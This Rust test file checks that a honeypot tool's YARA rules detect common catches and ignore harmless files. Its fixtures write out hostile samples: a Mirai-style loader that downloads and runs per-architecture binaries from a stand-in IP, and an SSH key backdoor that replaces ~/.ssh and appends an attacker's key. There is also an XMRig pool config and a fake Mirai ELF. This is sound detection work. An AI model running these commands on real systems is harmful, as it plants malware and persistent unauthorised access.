//! The YARA rules shipped in `rules/yara` compile and tell the common honeypot catches
//! (Mirai bots and loaders, XMRig, shell droppers, SSH key backdoors) from harmless files.
#![cfg(feature = "yara")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::PathBuf;
use std::time::Duration;

use hpti_core::file::FileCategory;
use hpti_enrich::file::{FileAnalyzer, YaraRules};

fn shipped_rules() -> YaraRules {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../rules/yara");
    YaraRules::load_dir(&dir, Duration::from_secs(10)).unwrap()
}

/// A Mirai-like bot: a 32-bit little-endian ARM ELF header followed by the cleartext
/// strings Mirai builds keep.
pub fn mirai_like_elf() -> Vec<u8> {
    let mut elf = vec![0x7f, b'E', b'L', b'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    elf.extend_from_slice(&2u16.to_le_bytes()); // e_type: EXEC
    elf.extend_from_slice(&40u16.to_le_bytes()); // e_machine: ARM
    elf.resize(52, 0);
    elf.extend_from_slice(
        b"\0/dev/watchdog\0/dev/misc/watchdog\0/proc/net/tcp\0/bin/busybox MIRAI\0xc3511\0",
    );
    elf.resize(4096, 0);
    elf
}

fn analyse(content: &[u8]) -> (String, FileCategory, Vec<String>) {
    let dir = tempfile::tempdir().unwrap();
    let analyzer = FileAnalyzer::new(dir.path(), Some(shipped_rules().into()), 1 << 20);
    let analysis = analyzer.analyse_bytes(content);
    (
        analysis.kind.file_type,
        analysis.kind.category,
        analysis.yara_matches,
    )
}

#[test]
fn the_shipped_rules_compile_from_every_file() {
    let rules = shipped_rules();
    let names: Vec<String> = rules
        .files()
        .iter()
        .map(|f| f.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, ["droppers.yar", "mirai.yar", "xmrig.yar"]);
}

#[test]
fn a_mirai_like_bot_gets_its_type_architecture_and_family() {
    let (file_type, category, matches) = analyse(&mirai_like_elf());
    assert_eq!(file_type, "ELF 32-bit LSB executable, ARM");
    assert_eq!(category, FileCategory::Executable);
    assert_eq!(matches, ["Mirai_Bot"]);
}

#[test]
fn a_loader_fetching_a_build_per_architecture() {
    let mut script = String::from("#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt\n");
    for arch in ["mips", "mpsl", "arm7", "x86", "ppc", "m68k", "sh4"] {
        script.push_str(&format!(
            "wget http://203.0.113.66/bins/{arch} -O .b; chmod 777 .b; ./.b {arch}.loader; rm -f .b\n"
        ));
    }
    let (file_type, category, matches) = analyse(script.as_bytes());
    assert_eq!(file_type, "POSIX shell script");
    assert_eq!(category, FileCategory::Script);
    assert_eq!(matches, ["Mirai_Loader", "Shell_Dropper"]);
}

#[test]
fn an_xmrig_config_and_an_ssh_key_backdoor() {
    let config = br#"{"autosave": true, "donate-level": 1, "pools": [{"url": "stratum+tcp://pool.example:3333", "coin": "monero"}], "randomx": {"1gb-pages": false}, "user-agent": "XMRig/6.21.0"}"#;
    assert_eq!(analyse(config).2, ["XMRig_Miner"]);
    let backdoor = b"cd ~; chattr -ia .ssh; lockr -ia .ssh\nrm -rf .ssh; mkdir .ssh; echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh\n";
    assert_eq!(analyse(backdoor).2, ["SSH_Key_Backdoor"]);
}

#[test]
fn harmless_files_match_nothing() {
    for content in [
        &b"#!/bin/sh\necho hello\n"[..],
        b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0 ordinary program",
        b"uname -a; cat /proc/cpuinfo; wget http://example.com/index.html",
        b"",
    ] {
        assert_eq!(analyse(content).2, Vec::<String>::new(), "{content:?}");
    }
}

#[test]
fn a_broken_rule_file_is_refused_with_its_name_and_line() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("bad.yar"),
        "rule ok { condition: true }\n\nrule broken { strings: $a = \"x\" condition: $b }\n",
    )
    .unwrap();
    let error = YaraRules::load_dir(dir.path(), Duration::from_secs(1))
        .unwrap_err()
        .to_string();
    assert!(
        error.contains("bad.yar") && error.contains(":3:"),
        "{error}"
    );
}
